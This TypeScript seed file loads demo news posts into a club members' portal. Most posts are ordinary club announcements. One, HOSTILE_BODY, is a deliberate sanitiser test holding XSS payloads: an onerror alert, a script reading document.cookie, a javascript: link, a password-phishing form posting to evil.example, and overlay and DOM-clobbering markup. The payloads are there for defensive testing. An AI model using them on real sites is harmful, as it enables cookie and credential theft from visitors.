// Demo posts: eight published ones (with links, pictures and one carrying the hostile HTML of
// docs/threats.md T24, which the write path must neutralise) and one draft that is never listed.
// Four are public (the club website's visitors see them, docs/spec.md §9), the rest for members.
// Pictures are small SVG data URLs, so the demo needs no image host.
import { toTimestamp } from '../../clock.ts';
import type { AppDeps } from '../../http/env.ts';
import { insertPost, slugify } from './repository.ts';

/** A flat cover picture: two colours and a circle, as an SVG data URL. */
export function coverImage(from: string, to: string): string {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 320"><defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="${from}"/><stop offset="1" stop-color="${to}"/></linearGradient></defs><rect width="640" height="320" fill="url(#g)"/><circle cx="500" cy="90" r="60" fill="#fff" fill-opacity=".35"/></svg>`;
  return `data:image/svg+xml,${encodeURIComponent(svg)}`;
}

/** T24: every payload the sanitiser has to neutralise, inside an otherwise ordinary post. */
export const HOSTILE_BODY = [
  '<p>Our new photo gallery is online. <img src=x onerror=alert(1)></p>',
  '<svg><script>alert(document.cookie)</script></svg>',
  '<p><a href="javascript:alert(1)" target=_blank>Open the gallery</a> or <a href="https://club.example/gallery" target="_blank">see it on our website</a>.</p>',
  '<form action=//evil.example/steal><input name=password placeholder="Confirm your password"><button>Send</button></form>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:red" onmouseover="alert(2)">Thanks to everyone who sent pictures!</p>',
  '<div id=currentUser>Photos by the club team.</div>',
].join('\n');

interface DemoPost {
  title: string;
  excerpt: string;
  body: string;
  image?: [string, string];
  author: string;
  daysAgo: number | null;
  public?: true;
}

const POSTS: DemoPost[] = [
  {
    title: 'Opening hours in winter',
    public: true,
    excerpt: 'From November the clubhouse opens one hour later on weekdays.',
    body: '<p>From 1 November the clubhouse opens at <strong>11:00</strong> on weekdays; weekends stay unchanged.</p><p>Questions? Have a look at the <a href="/support/faq">help pages</a> or write to <a href="mailto:hello@club.test">hello@club.test</a>.</p>',
    image: ['#1f6feb', '#8250df'],
    author: 'Club team',
    daysAgo: 1,
  },
  {
    title: 'Summer meetup: registration open',
    public: true,
    excerpt: 'Tickets for this year\u2019s summer meetup are now available in the portal.',
    body: '<h2>Save the date</h2><p>The summer meetup takes place on the last Saturday of June.</p><ul><li>Barbecue from 15:00</li><li>Live music from 19:00</li><li>Member raffle at 21:00</li></ul><p>Register your ticket under <a href="/appointments">Appointments</a>.</p>',
    image: ['#1a7f37', '#bf8700'],
    author: 'Events committee',
    daysAgo: 4,
  },
  {
    title: 'New photo gallery',
    excerpt: 'Pictures from the spring party are online.',
    body: HOSTILE_BODY,
    image: ['#cf222e', '#fb8f44'],
    author: 'Club team',
    daysAgo: 8,
  },
  {
    title: 'Annual general meeting',
    excerpt: 'The invitation and agenda for the annual general meeting.',
    body: '<p>All members are invited to the annual general meeting.</p><ol><li>Report of the board</li><li>Accounts and discharge</li><li>Elections</li><li>Any other business</li></ol><p>Motions can be sent until two weeks before the meeting.</p>',
    author: 'The board',
    daysAgo: 15,
  },
  {
    title: 'Portal update: notifications',
    excerpt: 'The member portal now shows notifications in real time.',
    body: '<p>The bell in the top bar now updates live. You can switch desktop notifications on in <a href="/settings/notifications">your settings</a>.</p><blockquote>Tell us what you think!</blockquote>',
    image: ['#0969da', '#54aeff'],
    author: 'Portal team',
    daysAgo: 22,
  },
  {
    title: 'Volunteers wanted',
    public: true,
    excerpt: 'Help us with the garden day in May.',
    body: '<p>We are looking for volunteers for the garden day. Sign up at the front desk or call <a href="tel:+493012345678">030 12345678</a>.</p>',
    author: 'Garden group',
    daysAgo: 31,
  },
  {
    title: 'Membership fees 2026',
    excerpt: 'Fees stay the same next year.',
    body: '<p>The board decided to keep the membership fees unchanged for 2026.</p><table><thead><tr><th>Membership</th><th>Per month</th></tr></thead><tbody><tr><td>Regular</td><td>30 €</td></tr><tr><td>Reduced</td><td>15 €</td></tr></tbody></table>',
    image: ['#6639ba', '#bf3989'],
    author: 'The board',
    daysAgo: 45,
  },
  {
    title: 'Welcome to the new portal',
    public: true,
    excerpt: 'Your wallet, news, appointments and support in one place.',
    body: '<p>Welcome! The new members\u2019 portal brings your wallet, the news, appointments and support together. Read more on <a href="https://club.example/portal" target="_blank">our website</a>.</p>',
    author: 'Portal team',
    daysAgo: 60,
  },
  {
    title: 'Draft: autumn hike',
    excerpt: 'Not published yet.',
    body: '<p>Route and date follow.</p>',
    author: 'Events committee',
    daysAgo: null,
  },
];

export function seedNews(deps: AppDeps): void {
  const now = deps.clock.now().getTime();
  const at = (days: number) => toTimestamp(new Date(now - days * 86_400_000));
  // Oldest first, so ids grow with the publication date as a CMS would assign them.
  for (const post of [...POSTS].reverse()) {
    const published = post.daysAgo === null ? null : at(post.daysAgo);
    insertPost(
      deps.db,
      {
        title: post.title,
        vanity_url: slugify(post.title),
        excerpt: post.excerpt,
        body_html: post.body,
        image_url: post.image ? coverImage(...post.image) : null,
        author: post.author,
        published_at: published,
        announced: published !== null,
        public: post.public === true,
      },
      published ?? at(0),
    );
  }
}
